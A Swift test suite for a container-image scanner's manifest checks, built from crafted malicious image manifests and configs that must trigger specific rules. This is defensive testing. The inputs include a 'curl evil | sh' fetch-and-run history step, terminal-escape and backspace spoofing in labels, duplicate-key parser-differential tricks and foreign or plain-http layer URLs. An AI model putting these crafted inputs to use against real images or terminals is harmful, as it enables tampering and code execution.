import Findings
import Forensics
import Foundation
import ImageModel
import ImageSources
import Testing

/// A crafted image and the manifest rules it must trigger, no more and no fewer.
struct CraftedCase: Sendable, CustomTestStringConvertible {
    let label: String
    /// Pretend the image came from this registry reference rather than from a file.
    var registry: String?
    let craft: @Sendable (CraftedImage) throws -> Void
    let expected: [String]
    var testDescription: String { label }

    init(_ label: String, registry: String? = nil, expected: [String],
         craft: @escaping @Sendable (CraftedImage) throws -> Void) {
        self.label = label
        self.registry = registry
        self.craft = craft
        self.expected = expected
    }
}

/// The rule IDs `ManifestChecks` reports for `image`, sorted.
func manifestRules(_ image: ResolvedImage) -> [String] {
    ManifestChecks.findings(for: image).map(\.ruleID).sorted()
}

private func nested(_ depth: Int) -> String {
    String(repeating: "[", count: depth) + String(repeating: "]", count: depth)
}

/// Sets `urls` on the first layer descriptor.
private func firstLayerURLs(_ urls: [String]) -> @Sendable (CraftedImage) throws -> Void {
    { image in
        try image.editManifest { manifest in
            var layers = manifest["layers"] as! [[String: Any]]
            layers[0]["urls"] = urls
            manifest["layers"] = layers
        }
    }
}

/// Sets config labels.
private func labels(_ labels: [String: String]) -> @Sendable (CraftedImage) throws -> Void {
    { image in
        try image.editConfig { config in
            var runtime = config["config"] as! [String: Any]
            runtime["Labels"] = labels
            config["config"] = runtime
        }
    }
}

/// Edits the config's `rootfs.diff_ids`.
private func diffIDs(_ edit: @escaping @Sendable (inout [String]) -> Void) -> @Sendable (CraftedImage) throws -> Void {
    { image in
        try image.editConfig { config in
            var rootfs = config["rootfs"] as! [String: Any]
            var ids = rootfs["diff_ids"] as! [String]
            edit(&ids)
            rootfs["diff_ids"] = ids
            config["rootfs"] = rootfs
        }
    }
}

/// Edits the config's `history`.
private func history(_ edit: @escaping @Sendable (inout [[String: Any]]) -> Void)
    -> @Sendable (CraftedImage) throws -> Void
{
    { image in
        try image.editConfig { config in
            var entries = config["history"] as! [[String: Any]]
            edit(&entries)
            config["history"] = entries
        }
    }
}

private let someDigest = "sha256:" + String(repeating: "ab", count: 32)

private let craftedCases: [CraftedCase] = [
    // The tool's image as built: nothing to report. Every case below differs from it by one crafted change.
    CraftedCase("clean image", expected: []) { _ in },
    // A second "mediaType" spelled with an escape: JSONDecoder reads the first, Go the last, grep neither.
    CraftedCase("manifest repeats a key behind an escape", expected: ["SG-MANIFEST-001"]) { image in
        try image.editTaggedText {
            $0.insertingFirstMember(#""\u006dediaType": "application/vnd.oci.image.manifest.v1+json""#)
        }
    },
    // A label given twice: Safeguard would show "innocent", a Go runtime "crafted".
    CraftedCase("config repeats a label", expected: ["SG-MANIFEST-002"]) { image in
        try image.editConfigText {
            $0.replacingOccurrences(of: #""Labels": {"#,
                                    with: #""Labels": {"org.opencontainers.image.title": "innocent", "#)
        }
    },
    // The architecture given twice, once escaped: one tool runs it as one platform, another as another.
    CraftedCase("config repeats the architecture", expected: ["SG-MANIFEST-002"]) { image in
        try image.editConfigText { $0.insertingFirstMember(#""architectur\u0065": "amd64""#) }
    },
    // Nesting the decoder accepts (under 512) but no builder writes: repeated keys below it would go unseen.
    CraftedCase("config nests past the bound", expected: ["SG-MANIFEST-004"]) { image in
        try image.editConfigText { $0.insertingFirstMember(#""x": "# + nested(200)) }
    },
    // A byte order mark: JSONDecoder skips it, Go refuses the document.
    CraftedCase("config starts with a byte order mark", expected: ["SG-MANIFEST-004"]) { image in
        try image.editConfigText { "\u{FEFF}" + $0 }
    },
    // The top layer has no diff_id: its content is vouched for by nothing in the config.
    CraftedCase("config lists fewer diff_ids than layers", expected: ["SG-MANIFEST-005"],
                craft: diffIDs { $0.removeLast() }),
    // A diff_id for a layer that is not there.
    CraftedCase("config lists more diff_ids than layers", expected: ["SG-MANIFEST-005"],
                craft: diffIDs { $0.append(someDigest) }),
    // No rootfs at all: no layer is vouched for.
    CraftedCase("config has no rootfs", expected: ["SG-MANIFEST-005"]) { image in
        try image.editConfig { $0["rootfs"] = nil }
    },
    // A layer-making step with no layer: the history no longer says which step made which layer.
    CraftedCase("history has an extra layer step", expected: ["SG-MANIFEST-006"],
                craft: history { $0.append(["created_by": "RUN curl evil | sh"]) }),
    // A step for the base layer dropped.
    CraftedCase("history misses a layer step", expected: ["SG-MANIFEST-006"], craft: history { $0.removeFirst() }),
    // Steps that made no layer do not count: this history still matches.
    CraftedCase("history has an extra empty step", expected: [],
                craft: history { $0.append(["created_by": "ENV A=b", "empty_layer": true]) }),
    // No history at all is allowed by the spec and is not a finding.
    CraftedCase("config has no history", expected: []) { image in try image.editConfig { $0["history"] = nil } },
    // An artifact's config type on a runnable image.
    CraftedCase("config media type of a Helm chart", expected: ["SG-MANIFEST-007"]) { image in
        try image.editManifest { manifest in
            var config = manifest["config"] as! [String: Any]
            config["mediaType"] = "application/vnd.cncf.helm.config.v1+json"
            manifest["config"] = config
        }
    },
    // Docker's config type is an image config type too.
    CraftedCase("config media type of Docker", expected: []) { image in
        try image.editManifest { manifest in
            var config = manifest["config"] as! [String: Any]
            config["mediaType"] = MediaType.dockerConfig
            manifest["config"] = config
        }
    },
    // An image from a file has no registry: any URL sends a runtime somewhere else.
    CraftedCase("file image with a layer URL", expected: ["SG-MANIFEST-008"],
                craft: firstLayerURLs(["https://mirror.example.com/blobs/layer.tar.gz"])),
    // Plain http on top: anyone on the path can serve the layer.
    CraftedCase("file image with an http layer URL", expected: ["SG-MANIFEST-008", "SG-MANIFEST-009"],
                craft: firstLayerURLs(["http://mirror.example.com/layer"])),
    // The registry the image came from is not another host.
    CraftedCase("URL on the image's registry", registry: "registry.example.com/team/app:1", expected: [],
                craft: firstLayerURLs(["https://registry.example.com/v2/team/app/blobs/x"])),
    // Host names are case-insensitive and 443 is https's own port.
    CraftedCase("URL on the registry spelled differently", registry: "registry.example.com/team/app:1", expected: [],
                craft: firstLayerURLs(["https://REGISTRY.Example.com:443/v2/x"])),
    // The same registry over plain http is still a downgrade.
    CraftedCase("http URL on the image's registry", registry: "registry.example.com/team/app:1",
                expected: ["SG-MANIFEST-009"], craft: firstLayerURLs(["http://registry.example.com/v2/x"])),
    // A registry's port is part of its name: another port is another server.
    CraftedCase("URL on another port of the registry", registry: "localhost:5000/app:1",
                expected: ["SG-MANIFEST-008"],
                craft: firstLayerURLs(["https://localhost:5000/v2/x", "https://localhost:5001/v2/x"])),
    // Docker Hub serves its API from registry-1.docker.io.
    CraftedCase("URL on Docker Hub's API host", registry: "debian:12", expected: [],
                craft: firstLayerURLs(["https://registry-1.docker.io/v2/library/debian/blobs/x"])),
    // Windows base layers point here; for an image from Docker Hub it is another host.
    CraftedCase("Docker Hub image with a layer on another host", registry: "debian:12",
                expected: ["SG-MANIFEST-008"], craft: firstLayerURLs(["https://mcr.microsoft.com/v2/x"])),
    // Not a URL at all: no host to trust, no https.
    CraftedCase("layer URL without a host", registry: "registry.example.com/app:1",
                expected: ["SG-MANIFEST-008", "SG-MANIFEST-009"], craft: firstLayerURLs(["/v2/app/blobs/x"])),
    // An operating system command sequence: sets the terminal title, and more on some terminals.
    CraftedCase("label value holds ESC", expected: ["SG-MANIFEST-010"],
                craft: labels(["org.opencontainers.image.title": "\u{1b}]0;pwned\u{7}"])),
    // The C1 control sequence introducer, one code point that some terminals take as ESC [.
    CraftedCase("label key holds a C1 control", expected: ["SG-MANIFEST-010"],
                craft: labels(["title\u{9b}2J": "x"])),
    // DEL in a manifest annotation.
    CraftedCase("manifest annotation holds DEL", expected: ["SG-MANIFEST-010"]) { image in
        try image.editManifest { $0["annotations"] = ["org.opencontainers.image.version": "1.0\u{7f}"] }
    },
    // A backspace in a layer descriptor's annotation rewrites what is shown before it.
    CraftedCase("layer annotation holds backspace", expected: ["SG-MANIFEST-010"]) { image in
        try image.editManifest { manifest in
            var layers = manifest["layers"] as! [[String: Any]]
            layers[1]["annotations"] = ["note": "safe\u{8}\u{8}\u{8}\u{8}evil"]
            manifest["layers"] = layers
        }
    },
    // Tab, newline and carriage return are ordinary in multi-line descriptions.
    CraftedCase("label value holds tab and newlines", expected: [],
                craft: labels(["org.opencontainers.image.description": "line one\r\n\tline two"])),
    // One byte over the bound.
    CraftedCase("label value over the bound", expected: ["SG-MANIFEST-011"],
                craft: labels(["payload": String(repeating: "A", count: ManifestChecks.maxValueBytes + 1)])),
    // Exactly at the bound.
    CraftedCase("label value at the bound", expected: [],
                craft: labels(["payload": String(repeating: "A", count: ManifestChecks.maxValueBytes)])),
    // Each value under the bound, together over the document bound.
    CraftedCase("labels over the total bound", expected: ["SG-MANIFEST-012"],
                craft: labels(Dictionary(uniqueKeysWithValues: (0..<40).map {
                    ("label.\($0)", String(repeating: "A", count: 7000))
                }))),
]

@Suite struct ManifestChecksTests {
    @Test(arguments: craftedCases)
    func reportsExactlyTheCraftedRules(_ crafted: CraftedCase) throws {
        let image = try CraftedImage()
        defer { image.remove() }
        try crafted.craft(image)
        var resolved = try image.resolve()
        if let registry = crafted.registry { resolved.location = .registry(try Reference(parsing: registry)) }

        #expect(manifestRules(resolved) == crafted.expected)
        #expect(ManifestChecks.findings(for: resolved).allSatisfy { $0.category == "manifest.malformed" })
    }

    @Test func namesTheRepeatedKeyByItsPointer() throws {
        let image = try CraftedImage()
        defer { image.remove() }
        try image.editConfigText {
            $0.replacingOccurrences(of: #""Labels": {"#,
                                    with: #""Labels": {"org.opencontainers.image.t\u0069tle": "x", "#)
        }
        let findings = ManifestChecks.findings(for: try image.resolve())

        #expect(findings.map(\.severity) == [.high])
        #expect(findings.first?.evidence.configField == "/config/Labels/org.opencontainers.image.title")
        #expect(findings.first?.evidence.facts?["document"] == "config")
    }

    @Test func namesTheLayerAndURLOfAForeignLayer() throws {
        let image = try CraftedImage()
        defer { image.remove() }
        try firstLayerURLs(["https://a.example/x", "http://b.example/\u{1b}[2J"])(image)
        let resolved = try image.resolve()
        let findings = ManifestChecks.findings(for: resolved)

        try #require(findings.map(\.ruleID) == ["SG-MANIFEST-008", "SG-MANIFEST-008", "SG-MANIFEST-009"])
        #expect(findings.allSatisfy { $0.evidence.layer?.index == 0 })
        #expect(findings.first?.evidence.layer?.digest == resolved.manifest.layers[0].digest.description)
        #expect(findings.map(\.evidence.configField) == ["manifest.layers[0].urls[0]", "manifest.layers[0].urls[1]",
                                                         "manifest.layers[0].urls[1]"])
        // The URL's ESC is shown escaped, never raw.
        #expect(findings[1].evidence.facts?["url"] == "http://b.example/\\x1b[2J")
        #expect(!findings.contains { ($0.title + $0.detail).unicodeScalars.contains("\u{1b}") })
    }

    @Test func quotesTheLabelWithItsControlCharactersEscaped() throws {
        let image = try CraftedImage()
        defer { image.remove() }
        try labels(["ti\"tle\u{1b}": "\u{1b}]0;pwned\u{7}"])(image)
        let findings = ManifestChecks.findings(for: try image.resolve())

        #expect(findings.map(\.ruleID) == ["SG-MANIFEST-010"])
        #expect(findings.first?.evidence.configField == #"config.Labels["ti\"tle\x1b"]"#)
        #expect(findings.first?.evidence.facts?["value"] == #"\x1b]0;pwned\x07"#)
        #expect(findings.first?.evidence.facts?["in"] == "key and value")
    }

    @Test func reportsAtMostTheBoundOfBadLabelsAndCountsTheRest() throws {
        let image = try CraftedImage()
        defer { image.remove() }
        try labels(Dictionary(uniqueKeysWithValues: (0..<40).map { ("label.\($0)", "\u{1b}[31m") }))(image)
        let findings = ManifestChecks.findings(for: try image.resolve())

        #expect(findings.count == 32 && findings.allSatisfy { $0.ruleID == "SG-MANIFEST-010" })
        #expect(findings.last?.evidence.facts?["notReported"] == "8")
    }

    @Test func reportsLayerAndDiffIDCountsAsFacts() throws {
        let image = try CraftedImage()
        defer { image.remove() }
        try diffIDs { $0.removeLast() }(image)
        let finding = try #require(ManifestChecks.findings(for: try image.resolve()).first)

        #expect(finding.evidence.facts == ["layers": "2", "diff_ids": "1"])
        #expect(finding.evidence.configField == "rootfs.diff_ids")
    }
}
